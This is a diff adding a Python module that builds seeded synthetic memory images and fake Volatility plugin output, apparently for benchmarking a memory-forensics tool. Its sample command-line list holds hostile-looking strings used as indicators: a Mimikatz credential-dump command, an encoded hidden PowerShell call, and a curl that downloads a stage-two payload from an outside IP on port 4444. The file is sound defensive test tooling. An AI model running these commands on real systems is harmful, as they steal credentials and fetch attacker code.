@@ -0,0 +1,183 @@
+"""
+Synthetic memory images and Volatility-style plugin output.
+
+Everything is derived from a seed, so two runs with the same parameters
+produce byte-identical datasets. Images are random bytes with printable
+ASCII / UTF-16LE strings (command lines, URLs, IOC keywords) sprinkled in,
+so string extraction and entropy have realistic work to do. The plugin
+output is written as a fixture for ``VOLATILITY_FIXTURE``.
+
+Generate a dataset from the backend directory:
+
+    python -m benchmarks.synthetic --image dump.raw --size-mb 256 \\
+        --fixture dump.json --processes 5000 --connections 20000 --cmdlines 5000
+"""
+
+import argparse
+import json
+import random
+from pathlib import Path
+from typing import Any, Dict, List
+
+import numpy as np
+
+_MB = 1024 * 1024
+
+_NAMES = [
+    "svchost.exe", "explorer.exe", "chrome.exe", "lsass.exe", "services.exe", "winlogon.exe",
+    "csrss.exe", "powershell.exe", "cmd.exe", "rundll32.exe", "notepad.exe", "outlook.exe",
+]
+_CMDLINES = [
+    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p",
+    "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer",
+    "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
+    "cmd.exe /c whoami /priv",
+    "rundll32.exe C:\\Users\\Public\\payload.dll,DllRegisterServer",
+    "C:\\Windows\\explorer.exe",
+    "mimikatz.exe privilege::debug sekurlsa::logonpasswords",
+    "curl http://185.23.1.10:4444/stage2.bin -o %TEMP%\\s.exe",
+]
+_STATES = ["ESTABLISHED", "ESTABLISHED", "ESTABLISHED", "CLOSE_WAIT", "LISTENING", "TIME_WAIT"]
+
+
+def make_image(path: Path, size_mb: int, seed: int = 0, strings_per_mb: int = 64) -> None:
+    """Write ``size_mb`` MiB of seeded random bytes with embedded strings."""
+    rng = np.random.default_rng(seed)
+    picker = random.Random(seed)
+    with path.open("wb") as f:
+        for _ in range(size_mb):
+            block = bytearray(rng.bytes(_MB))
+            for _ in range(strings_per_mb):
+                text = picker.choice(_CMDLINES)
+                data = text.encode("utf-16-le") if picker.random() < 0.3 else text.encode("ascii")
+                offset = picker.randrange(0, _MB - len(data) - 2)
+                # NUL terminators so the string is a run of its own.
+                block[offset : offset + len(data) + 2] = b"\0" + data + b"\0"
+            f.write(block)
+
+
+def make_volatility_output(
+    processes: int,
+    connections: int,
+    cmdlines: int,
+    image_size: int,
+    seed: int = 0,
+    suspicious_ratio: float = 0.02,
+) -> Dict[str, List[Dict[str, Any]]]:
+    """
+    Plugin rows for ``processes`` processes: a random process tree (with the
+    occasional orphan), ``connections`` netscan rows spread over them,
+    ``cmdlines`` command lines, and malfind/dlllist regions inside an image
+    of ``image_size`` bytes.
+    """
+    rng = random.Random(seed)
+    pslist = []
+    for i in range(processes):
+        pid = 4 * (i + 1)
+        if i == 0:
+            ppid = 0
+        elif rng.random() < 0.01:
+            ppid = 4 * (processes + rng.randint(1, 1000))  # parent already exited
+        else:
+            ppid = pslist[rng.randrange(i)]["pid"]
+        pslist.append(
+            {
+                "pid": pid,
+                "ppid": ppid,
+                "name": "System" if i == 0 else rng.choice(_NAMES),
+                "threads": rng.randint(1, 64),
+                "dll_count": rng.randint(5, 150),
+                "suspicious": rng.random() < suspicious_ratio,
+                "connections": [],
+            }
+        )
+
+    netscan = []
+    for _ in range(connections):
+        proc = pslist[rng.randrange(processes)] if processes else {"pid": None, "name": None}
+        conn = {
+            "pid": proc["pid"],
+            "owner": proc["name"],
+            "protocol": rng.choice(("TCP", "TCP", "UDP")),
+            "local_ip": "10.0.0.5",
+            "local_port": rng.randint(49152, 65535),
+            "remote_ip": f"{rng.randint(1, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}",
+            "remote_port": rng.choice((80, 443, 443, 8080, 4444)),
+            "state": rng.choice(_STATES),
+        }
+        netscan.append(conn)
+        if processes:
+            proc["connections"].append(
+                {k: conn[k] for k in ("remote_ip", "remote_port", "protocol")}
+            )
+
+    cmdline = [
+        {"pid": pslist[i % processes]["pid"] if processes else None, "cmdline": rng.choice(_CMDLINES)}
+        for i in range(cmdlines)
+    ]
+
+    def region(size: int) -> Dict[str, int]:
+        size = min(size, image_size)
+        return {"offset": rng.randrange(0, max(1, image_size - size)), "size": size}
+
+    malfind = [
+        {"pid": p["pid"], "process": p["name"], "protection": "PAGE_EXECUTE_READWRITE", **region(64 * 1024)}
+        for p in pslist
+        if p["suspicious"]
+    ]
+    dlllist = [
+        {
+            "pid": p["pid"],
+            "process": p["name"],
+            "name": "ntdll.dll",
+            "path": "C:\\Windows\\System32\\ntdll.dll",
+            **region(256 * 1024),
+        }
+        for p in pslist[: min(processes, 256)]
+    ]
+    handles = [
+        {
+            "pid": p["pid"],
+            "type": "File",
+            "name": f"\\Device\\HarddiskVolume3\\Temp\\{p['pid']}.log",
+            "granted_access": "0x12019f",
+        }
+        for p in pslist[: min(processes, 1000)]
+    ]
+    return {
+        "pslist": pslist,
+        "malfind": malfind,
+        "dlllist": dlllist,
+        "handles": handles,
+        "netscan": netscan,
+        "cmdline": cmdline,
+    }
+
+
+def write_fixture(path: Path, output: Dict[str, Any]) -> None:
+    with path.open("w", encoding="utf-8") as f:
+        json.dump(output, f)
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("--image", type=Path, help="Write a synthetic image here.")
+    parser.add_argument("--size-mb", type=int, default=64)
+    parser.add_argument("--fixture", type=Path, help="Write synthetic plugin output here.")
+    parser.add_argument("--processes", type=int, default=1000)
+    parser.add_argument("--connections", type=int, default=4000)
+    parser.add_argument("--cmdlines", type=int, default=1000)
+    parser.add_argument("--seed", type=int, default=0)
+    args = parser.parse_args()
+
+    if args.image:
+        make_image(args.image, args.size_mb, seed=args.seed)
+    if args.fixture:
+        output = make_volatility_output(
+            args.processes, args.connections, args.cmdlines, args.size_mb * _MB, seed=args.seed
+        )
+        write_fixture(args.fixture, output)
+
+
+if __name__ == "__main__":
+    main()